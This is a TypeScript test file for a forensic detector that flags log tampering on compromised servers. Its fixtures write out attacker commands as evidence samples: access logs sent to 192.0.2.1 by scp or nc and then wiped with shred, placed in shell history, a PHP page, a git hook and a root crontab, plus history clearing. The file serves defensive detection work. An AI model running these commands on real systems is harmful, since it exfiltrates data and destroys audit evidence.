import { describe, expect, it } from 'vitest';
import { watching } from '../../../src/detect/hiding/watching/watching.ts';
import { writeLogins } from '../../evidence/utmp/login-records.ts';
import { runDetector, type TestEvidence } from '../run-detector.ts';
import { cpuTime } from '../../../../../tools/cpu-time.ts';

const found = async (...all: TestEvidence[]): Promise<unknown[]> =>
  (await runDetector(watching, all)).map(({ rule, level, confidence, locators }) => [
    rule.id,
    level,
    confidence,
    ...locators.map(({ offset }) => offset),
  ]);
const typed = (...commands: string[]): TestEvidence => ({
  path: 'root/.bash_history',
  content: commands.map((line) => `${line}\n`).join(''),
});

describe('logs copied away and overwritten', () => {
  const SHIPPED = ['logs-shipped-and-wiped', 'medium', 'moderate'];

  it('in one command, or one soon after the other', async () => {
    expect(
      await found(
        typed(
          'scp /var/log/apache2/access.log a@192.0.2.1: && shred -z /var/log/apache2/access.log',
        ),
      ),
    ).toEqual([[...SHIPPED, 0]]);
    expect(
      await found(
        typed('cp /var/log/messages /usr/local/share/m/log', 'id', 'shred -z /var/log/messages'),
      ),
    ).toEqual([[...SHIPPED, 0, 47]]);
  });

  it('by a page of the server', async () => {
    const content = `<?php
$log = '/var/log/httpd/access_log';
file_put_contents('/usr/local/share/m/log', file_get_contents($log), FILE_APPEND);
system("shred -z $log");
`;
    expect(await found({ path: 'secure/getlogs.php', content })).toEqual([[...SHIPPED, 42, 125]]);
  });

  it('by a hook that no first line calls a script', async () => {
    const content =
      'while read old new ref; do\n  scp /var/log/nginx/access.log a@192.0.2.1:\n  shred -z /var/log/nginx/access.log\ndone\n';
    expect(await found({ path: 'srv/git/pages.git/hooks/post-receive', content })).toEqual([
      [...SHIPPED, 27, 72],
    ]);
  });

  it('by cron', async () => {
    const content =
      '*/5 * * * * cat /var/log/nginx/access.log | nc 192.0.2.1 99; shred -z /var/log/nginx/access.log\n';
    expect(await found({ path: 'var/spool/cron/crontabs/root', content })).toEqual([
      [...SHIPPED, 0],
    ]);
  });

  it.each([
    ['a backup that deletes', ['rsync -a /var/log/ b:/logs/', 'rm /var/log/*.gz']],
    ['a copy only', ['scp /var/log/syslog a@192.0.2.1:']],
    ['a key destroyed', ['cp key.pem /media/usb', 'shred -u key.pem']],
    ['emptied by hand', ['cp /var/log/app.log /tmp/', 'truncate -s 0 /var/log/app.log']],
    ['a device', ['cat /var/log/syslog', 'dd if=/dev/zero of=/dev/sdb bs=1M']],
  ])('honest: %s', async (_what, commands) => expect(await found(typed(...commands))).toEqual([]));

  it('honest: logrotate and backups by script', async () => {
    const content =
      '#!/bin/sh\nLOG=/var/log/app.log\ncp $LOG $LOG.1\n: > $LOG\ngzip $LOG.1\nrsync $LOG.1.gz b:/logs/\nrm -f $LOG.8.gz\n';
    expect(await found({ path: 'rotate.sh', content })).toEqual([]);
  });
});

describe('following logs', () => {
  const FOLLOW = 'tail -n 50 -F /var/log/apache2/access.log';

  it.each([
    ['who empties the history', [FOLLOW, 'ls', 'history -c'], 0, 45],
    ['who overwrote a log before', ['shred -z /var/log/auth.log', FOLLOW], 27, 0],
  ])('by one %s', async (_what, commands, ...offsets) => {
    const findings = await found(typed(...commands));
    expect(findings).toContainEqual(['logs-followed', 'low', 'low', ...offsets]);
  });

  it.each([
    ['alone', [FOLLOW, 'less +F /var/log/syslog']],
    ['of one who makes room', [FOLLOW, 'rm /var/log/app.log', 'truncate -s 0 /var/log/app.log']],
    ['of no log', ['tail -f notes.txt', 'history -c']],
    ['not followed', ['tail -n 5 /var/log/syslog', 'history -c']],
  ])('honest: %s', async (_what, commands) => expect(await found(typed(...commands))).toEqual([]));
});

describe('looking for researchers', () => {
  it('in logs, also to send word', async () => {
    expect(await found(typed('grep -i kaspersky /var/log/apache2/access.log'))).toEqual([
      ['researchers-looked-for', 'low', 'low', 0],
    ]);
    expect(
      await found(
        typed(
          'tail -f /var/log/apache2/access.log | grep -E "kaspersky|eset" | mail -s x a@b.example',
        ),
      ),
    ).toEqual([['researchers-looked-for', 'low', 'moderate', 0]]);
    expect(await found(typed('echo kaspersky is here | wall'))).toEqual([
      ['researchers-looked-for', 'low', 'low', 0],
    ]);
  });

  it.each([
    'tail -f /var/log/apache2/access.log',
    "grep 404 /var/log/nginx/access.log | awk '{print $1}' | sort | uniq -c",
    'grep shodan /var/log/nginx/access.log',
    'curl -O https://www.kaspersky.example/tool.deb',
    'mail -s "renewal of kaspersky" shop@example.org',
    'systemctl status sophos',
  ])('honest: %s', async (command) => expect(await found(typed(command))).toEqual([]));
});

describe('addresses of operators', () => {
  const auth: TestEvidence = {
    path: 'a/var/log/auth.log',
    content:
      '2026-03-01T10:00:00+00:00 a sshd[7]: Accepted publickey for root from 198.51.100.7 port 4711 ssh2: RSA SHA256:abc\n2026-03-01T10:01:00+00:00 a sshd[8]: Failed password for root from 198.51.100.8 port 4711 ssh2\n',
  };
  const line = (client: string, user: string, status: number): string =>
    `${client} - ${user} [01/Mar/2026:11:00:00 +0000] "GET /panel/ HTTP/1.1" ${status} 5 "-" "Mozilla/5.0"\n`;

  it('logged in to the host and to its pages', async () => {
    const content = line('198.51.100.9', '-', 200) + line('198.51.100.7', 'admin', 200);
    const findings = await runDetector(watching, [
      auth,
      { path: 'a/var/log/web/access.log', content },
    ]);
    expect(findings).toMatchObject([
      {
        rule: { id: 'operators-addresses' },
        level: 'low',
        confidence: 'low',
        time: '2026-03-01T10:00:00.000000Z',
        until: '2026-03-01T11:00:00.000000Z',
        matched: { addresses: '198.51.100.7' },
      },
    ]);
    expect(findings[0]!.locators.map(({ evidence }) => evidence)).toEqual([
      'a/var/log/auth.log',
      'a/var/log/web/access.log',
    ]);
  });

  it('also by the records of logins', async () => {
    const wtmp = writeLogins([
      { type: 2, user: 'reboot', line: '~', seconds: 1_772_355_000 },
      {
        type: 7,
        user: 'root',
        line: 'pts/0',
        host: 'desk.example',
        address: [198, 51, 100, 7],
        seconds: 1_772_356_000,
      },
    ]);
    const content = line('198.51.100.7', 'admin', 200) + line('desk.example', 'admin', 200);
    expect(
      await found(
        { path: 'a/var/log/wtmp', content: wtmp },
        { path: 'a/var/log/web/access.log', content },
      ),
    ).toEqual([['operators-addresses', 'low', 'low', 384, 0]]);
  });

  it.each([
    ['another server', 'b/var/log/web/access.log', line('198.51.100.7', 'admin', 200)],
    ['a visitor without a name', 'a/var/log/web/access.log', line('198.51.100.7', '-', 200)],
    ['a name that was refused', 'a/var/log/web/access.log', line('198.51.100.7', 'admin', 401)],
    ['a login that failed', 'a/var/log/web/access.log', line('198.51.100.8', 'admin', 200)],
  ])('honest: %s', async (_what, path, content) => {
    expect(await found(auth, { path, content })).toEqual([]);
  });
});

it('stays quick on commands made to keep it busy', async () => {
  const start = cpuTime();
  for (const piece of ['tail ', 'cp /var/log/a ', 'shred ', 'grep a.log ', ' ;', '$a ']) {
    await found(typed(piece.repeat(60_000 / piece.length)));
  }
  expect(cpuTime() - start).toBeLessThan(10_000);
});
